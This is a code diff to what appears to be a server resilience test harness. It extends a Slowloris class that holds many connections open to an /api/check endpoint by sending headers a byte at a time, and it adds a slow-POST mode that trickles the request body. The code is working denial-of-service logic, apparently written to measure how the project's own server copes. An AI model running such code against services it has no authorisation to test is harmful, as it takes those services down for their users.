@@ -60,13 +60,15 @@ def timed_post(url: str, path: str, body: dict[str, object], timeout: float = 60
 @dataclass
 class Slowloris:
     """``per_source`` connections from each of ``sources`` that send a request's
-    header a byte every ``interval`` seconds, never finishing it; a connection the
-    server closes is opened again at once (as the attack does)."""
+    header (``body``: its header whole, then its body) a byte every ``interval``
+    seconds, never finishing it; a connection the server closes is opened again at
+    once (as the attack does)."""
 
     url: str
     sources: list[str]
     per_source: int
     interval: float = 0.5
+    body: bool = False
     opened: int = 0
     lifetimes: list[float] = field(default_factory=list)
     """Seconds each connection the server closed had lived."""
@@ -102,6 +104,10 @@ class Slowloris:
         parts = urlsplit(self.url)
         head = (f"POST /api/check HTTP/1.1\r\nHost: {parts.netloc}\r\n"
                 "Content-Type: application/json\r\nX-Slow: ").encode()
+        if self.body:
+            head = (f"POST /api/check HTTP/1.1\r\nHost: {parts.netloc}\r\n"
+                    "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
+                    '{"text": "').encode()
         while not self._stop.is_set():
             try:
                 reader, writer = await asyncio.open_connection(
@@ -115,8 +121,12 @@ class Slowloris:
             closed = False
             try:
                 while not self._stop.is_set():
-                    writer.write(head[sent:sent + 1] if sent < len(head) else b"a")
-                    sent += 1
+                    if self.body and sent == 0:
+                        writer.write(head)  # the header at once, then the body slowly
+                        sent = len(head)
+                    else:
+                        writer.write(head[sent:sent + 1] if sent < len(head) else b"a")
+                        sent += 1
                     await writer.drain()
                     try:
                         data = await asyncio.wait_for(reader.read(1024), self.interval)
